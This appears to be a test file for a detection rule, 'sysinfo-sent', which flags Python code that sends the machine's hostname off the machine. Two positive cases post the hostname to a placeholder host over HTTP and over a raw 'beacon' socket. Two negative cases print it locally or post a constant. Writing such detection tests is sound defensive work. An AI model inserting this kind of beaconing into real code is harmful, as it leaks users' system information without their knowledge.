import socket

import requests

# ruleid: sysinfo-sent
requests.post("https://b.example.invalid/in", json={"host": socket.gethostname()})
beacon = socket.socket()
# ruleid: sysinfo-sent
beacon.sendall(socket.gethostname().encode())
# ok: sysinfo-sent
print(socket.gethostname())
# ok: sysinfo-sent
requests.post("https://api.example.com/items", json={"host": "a"})
